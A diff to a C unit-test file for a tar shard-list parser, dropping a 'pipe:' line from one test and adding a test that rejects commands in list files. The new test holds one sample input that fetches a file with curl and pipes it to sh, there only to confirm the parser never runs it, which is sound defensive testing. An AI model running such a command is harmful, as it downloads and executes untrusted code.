@@ -96,13 +96,13 @@ static void test_lines(void **state) {
     const char text[] = "# shards of the training set\n"
                         "\n"
                         "https://h/train-{000..002}.tar\n"
-                        "  pipe:cat /data/x.tar  \r\n"
+                        "  /data/x.tar  \r\n"
                         "\t# an indented comment\n"
                         "{a,b}-{0..1}.tar\r\n"
                         "last.tar"; /* no newline at the end */
     const char *sp = list_file("l.txt", text, sizeof text - 1);
     const char *const want[] = {"https://h/train-000.tar", "https://h/train-001.tar",
-                                "https://h/train-002.tar", "pipe:cat /data/x.tar",
+                                "https://h/train-002.tar", "/data/x.tar",
                                 "a-0.tar", "a-1.tar", "b-0.tar", "b-1.tar", "last.tar"};
     expect(sp, NULL, want, 9);
     /* among "::" lists, twice */
@@ -135,6 +135,10 @@ static void test_errors(void **state) {
     const char nested[] = "a.tar\n@other.txt\n";
     expect_error(list_file("nested.txt", nested, sizeof nested - 1), NULL, TIO_E_ARGUMENT, 6,
                  "nested.txt, line 2: a list file names no other list file");
+    /* a command in a file is never run */
+    const char cmd[] = "a.tar\n  pipe:curl -s http://h/x.tar | sh\n";
+    expect_error(list_file("cmd.txt", cmd, sizeof cmd - 1), NULL, TIO_E_ARGUMENT, 8,
+                 "cmd.txt, line 2: a command (pipe:) in a list file is not run");
     /* a malformed brace: the line, and the offset in the file */
     const char bad[] = "a.tar\nb.tar\nc-{1..3.tar\n";
     expect_error(list_file("bad.txt", bad, sizeof bad - 1), NULL, TIO_E_ARGUMENT, 14,
